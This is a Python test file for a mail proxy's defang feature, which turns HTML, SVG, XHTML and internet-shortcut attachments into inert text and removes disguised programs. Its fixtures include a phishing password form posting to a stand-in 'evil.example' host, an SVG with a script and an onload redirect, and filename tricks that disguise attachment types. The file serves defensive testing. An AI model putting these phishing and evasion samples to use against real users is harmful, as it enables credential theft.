"""Defang neutralises attachments that could render as a page, by content, name and type.

Issue 14, medium 3: an HTML attachment typed application/octet-stream with a password form and
an SVG with a script passed byte-identical through a defang verdict.  Now any attachment a
client or browser could open as a page (by its content, whatever its declared type, by its
file name, or by a page type) becomes a text/plain attachment "<name>.txt" holding its
defanged markup.
"""

from __future__ import annotations

import base64
import email
import email.message
import email.policy
import quopri
from email.message import Message

from selectolax.lexbor import LexborHTMLParser

from popproxy.scan import Verdict, apply_action, defang_message
from tests.scan.helpers import build
from tests.scan.test_defang_html import _live

PHISH_FORM = (b'<html><body><form action="https://evil.example/collect" method=post>'
              b'<input name=user><input type=password name=pw><input type=submit></form>'
              b'<a href="https://evil.example/login">Sign in</a></body></html>')
SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
              b'onload="location=\'https://evil.example/\'"><script>alert(1)</script>'
              b'<a href="https://evil.example/x"><text>x</text></a></svg>')


def _parse(data: bytes) -> Message:
    return email.message_from_bytes(data, policy=email.policy.compat32)


def _defanged(data: bytes) -> Message:
    out = defang_message(data)
    assert out == defang_message(data)  # deterministic: POP3 sizes depend on it
    msg = _parse(out)
    assert not msg.defects and all(not p.defects for p in msg.walk())
    return msg


def _attachment(msg: Message) -> Message:
    """The last leaf part (the attachment of the messages built here)."""
    return [p for p in msg.walk() if not p.is_multipart()][-1]


def _assert_inert_text(part: Message, name: str) -> str:
    """The part is a text/plain attachment <name> whose text has nothing live in it."""
    assert part.get_content_type() == "text/plain"
    assert part.get_content_disposition() == "attachment"
    assert part.get_filename() == name
    payload = part.get_payload(decode=True)
    assert isinstance(payload, bytes)
    text = payload.decode("utf-8")
    assert _live(text) == []
    tree = LexborHTMLParser(text)
    assert all("disabled" in n.attributes for n in tree.css("input"))
    assert "https://" not in text and "evil[.]example" in text
    return text


def _build_mime(payload: bytes, headers: str, cte: str) -> bytes:
    body = base64.encodebytes(payload) if cte == "base64" else quopri.encodestring(payload)
    return (b'From: a@example.org\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary="b"'
            b"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\n"
            + headers.encode() + f"\r\nContent-Transfer-Encoding: {cte}\r\n\r\n".encode()
            + body + b"\r\n--b--\r\n")


def test_octet_stream_html_with_password_form_is_made_inert_text() -> None:
    data = build(attachments=(("statement.html", PHISH_FORM, "application/octet-stream"),))
    part = _attachment(_defanged(data))
    text = _assert_inert_text(part, "statement.html.txt")
    assert "<form" in text and 'type="password"' in text  # still readable, but dead


def test_octet_stream_html_without_a_name_is_sniffed_by_content() -> None:
    data = _build_mime(PHISH_FORM, "Content-Type: application/octet-stream", "base64")
    _assert_inert_text(_attachment(_defanged(data)), "attachment.txt")


def test_html_content_under_a_harmless_name_and_type_is_sniffed() -> None:
    data = build(attachments=(("scan.pdf", b"\r\n  " + PHISH_FORM, "application/pdf"),))
    _assert_inert_text(_attachment(_defanged(data)), "scan.pdf.txt")


def test_svg_with_script_is_made_inert_text() -> None:
    data = build(attachments=(("logo.svg", SVG_SCRIPT, "image/svg+xml"),))
    text = _assert_inert_text(_attachment(_defanged(data)), "logo.svg.txt")
    assert "<script" not in text and "onload" not in text


def test_svg_declared_as_png_is_sniffed_by_content() -> None:
    data = build(attachments=(("logo.png", SVG_SCRIPT, "image/png"),))
    _assert_inert_text(_attachment(_defanged(data)), "logo.png.txt")


def test_html_attachment_declared_image_png_is_caught_by_its_name() -> None:
    data = build(attachments=(("invoice.html", PHISH_FORM, "image/png"),))
    _assert_inert_text(_attachment(_defanged(data)), "invoice.html.txt")


def test_markup_extensions_with_tricks_in_the_name() -> None:
    for headers, name in [
        ('Content-Type: application/octet-stream\r\nContent-Disposition: attachment; '
         'filename="invoice.HTML."', "invoice.HTML..txt"),
        ("Content-Type: application/octet-stream\r\nContent-Disposition: attachment; "
         "filename*=utf-8''invoice%2Ehtm", "invoice.htm.txt"),
        ('Content-Type: application/octet-stream; name="=?utf-8?q?invoice=2Eshtml?="',
         "invoice.shtml.txt"),
        ('Content-Type: application/octet-stream; name="a.xht"', "a.xht.txt"),
        ('Content-Type: application/octet-stream; name="a.mht"', "a.mht.txt"),
    ]:
        data = _build_mime(PHISH_FORM, headers, "base64")
        _assert_inert_text(_attachment(_defanged(data)), name)


def test_base64_and_quoted_printable_attachments_are_both_neutralised() -> None:
    for cte in ("base64", "quoted-printable"):
        headers = 'Content-Type: application/octet-stream; name="x.bin"'
        msg = _defanged(_build_mime(PHISH_FORM, headers, cte))
        part = _attachment(msg)
        _assert_inert_text(part, "x.bin.txt")
        assert part["Content-Transfer-Encoding"] == cte


def test_utf16_html_is_sniffed() -> None:
    payload = PHISH_FORM.decode().encode("utf-16")
    data = _build_mime(payload, "Content-Type: application/octet-stream", "base64")
    _assert_inert_text(_attachment(_defanged(data)), "attachment.txt")


def test_text_html_attachment_becomes_text_but_the_html_body_stays_html() -> None:
    data = build(html='<p>Hello <a href="https://evil.example/b">you</a></p>',
                 attachments=(("page.htm", PHISH_FORM, "text/html"),))
    msg = _defanged(data)
    types = [p.get_content_type() for p in msg.walk()]
    assert types == ["multipart/mixed", "text/html", "text/plain"]
    body = next(p for p in msg.walk() if p.get_content_type() == "text/html")
    assert body.get_content_disposition() is None
    _assert_inert_text(_attachment(msg), "page.htm.txt")


def test_xml_with_an_xhtml_script_is_sniffed_and_plain_xml_is_not() -> None:
    xhtml = (b'<?xml version="1.0"?><x:html xmlns:x="http://www.w3.org/1999/xhtml"><x:body>'
             b'<x:a href="https://evil.example/login">go</x:a></x:body></x:html>')
    data = build(attachments=(("data.xml", xhtml, "application/xml"),))
    _assert_inert_text(_attachment(_defanged(data)), "data.xml.txt")
    invoice = b'<?xml version="1.0"?><Invoice><ID>1</ID><Note>&lt;b&gt;</Note></Invoice>'
    data = build(attachments=(("invoice.xml", invoice, "application/xml"),))
    assert _attachment(_defanged(data)).get_payload(decode=True) == invoice


def test_internet_shortcut_is_defanged_as_text() -> None:
    shortcut = b"[InternetShortcut]\r\nURL=https://evil.example/login\r\n"
    data = build(attachments=(("Invoice.url", shortcut, "application/octet-stream"),))
    part = _attachment(_defanged(data))
    assert part.get_content_type() == "text/plain" and part.get_filename() == "Invoice.url.txt"
    payload = part.get_payload(decode=True)
    assert isinstance(payload, bytes)
    assert b"URL=hxxps://evil[.]example/login" in payload


def test_other_attachments_keep_their_bytes() -> None:
    keep = [
        ("report.pdf", b"%PDF-1.7\n<html><form>", "application/pdf"),
        ("photo.png", b"\x89PNG\r\n\x1a\n\x00\x00<svg ", "image/png"),
        ("archive.zip", b"PK\x03\x04<html>", "application/zip"),
        ("blob.bin", b"\x00\x01<script>\x02", "application/octet-stream"),
        ("table.csv", b"a,b\r\n1,2\r\n", "text/csv"),
    ]
    for name, payload, mime in keep:
        msg = _defanged(build(attachments=((name, payload, mime),)))
        part = _attachment(msg)
        assert part.get_payload(decode=True) == payload, name
        assert part.get_content_type() == mime and part.get_filename() == name


def test_defang_verdict_leaves_no_live_attachment() -> None:
    """The issue's pair in one message, through apply_action as the proxy renders it."""
    data = build(text="see attached", attachments=(
        ("statement", PHISH_FORM, "application/octet-stream"),
        ("logo.svg", SVG_SCRIPT, "image/svg+xml"),
    ))
    out = apply_action(data, Verdict(action="defang", score=8.0, reasons=("x",)))
    msg = _parse(out)
    assert msg["X-Popproxy-Verdict"] == "defang; score=8" and not msg.defects
    leaves = [p for p in msg.walk() if not p.is_multipart()]
    assert [p.get_filename() for p in leaves[1:]] == ["statement.txt", "logo.svg.txt"]
    for part in leaves[1:]:
        payload = part.get_payload(decode=True)
        assert isinstance(payload, bytes)
        assert _live(payload.decode("utf-8")) == []
    assert PHISH_FORM not in out and b"<script" not in out


PROGRAM = b"MZ" + b"\x90" * 62 + b"This program cannot be run in DOS mode"


def _with_attachments() -> bytes:
    return build(text="See https://evil.example/login and the files.",
                 attachments=(("invoice.pdf.exe", PROGRAM, "application/octet-stream"),
                              ("data.bin", b"\x00\x01\x02opaque", "application/octet-stream")))


def _attachment_names(message: bytes) -> list[str | None]:
    parsed = email.message_from_bytes(message, policy=email.policy.default)
    return [p.get_filename() for p in parsed.walk() if not p.is_multipart()]


def test_risky_attachments_replace_and_strip() -> None:
    """Issue 19 item 11: with scan.risky_attachments the program is removed and a note says
    so; the opaque .bin keeps its bytes; the output is deterministic (LIST == RETR)."""
    data = _with_attachments()
    kept = email.message_from_bytes(defang_message(data), policy=email.policy.default)
    (program,) = [p for p in kept.walk() if p.get_filename() == "invoice.pdf.exe"]
    assert program.get_payload(decode=True) == PROGRAM  # keep (the default): as it was
    replaced = defang_message(data, "replace")
    assert replaced == defang_message(data, "replace")
    assert _attachment_names(replaced) == [None, "invoice.pdf.exe.removed.txt", "data.bin"]
    parsed = email.message_from_bytes(replaced, policy=email.policy.default)
    note, opaque = [p for p in parsed.walk() if p.get_filename()]
    assert note.get_content() == ("popproxy removed the attachment invoice.pdf.exe (102 bytes): "
                                  "program (windows-pe).\nAsk your mail administrator if you "
                                  "need it.\n")
    assert opaque.get_payload(decode=True) == b"\x00\x01\x02opaque"
    stripped = defang_message(data, "strip")
    assert _attachment_names(stripped) == [None, None, "data.bin"]
    inline = [p for p in email.message_from_bytes(stripped, policy=email.policy.default).walk()
              if p.get_content_disposition() == "inline"]
    assert len(inline) == 1 and "invoice.pdf.exe" in inline[0].get_content()
    assert b"hxxps://evil[.]example/login" in stripped  # still defanged as usual
    assert PROGRAM[:40] not in replaced and base64.b64encode(PROGRAM)[:40] not in stripped


def test_apply_action_defang_uses_the_setting() -> None:
    from popproxy.scan import ScanSettings

    data = _with_attachments()
    verdict = Verdict(action="defang", score=9.0, reasons=("attach-double-ext",))
    out = apply_action(data, verdict, ScanSettings(risky_attachments="replace"))
    assert b"invoice.pdf.exe.removed.txt" in out
    tagged = apply_action(data, Verdict(action="tag", score=3.0),
                          ScanSettings(risky_attachments="replace"))
    assert b"removed.txt" not in tagged  # only defang removes attachments
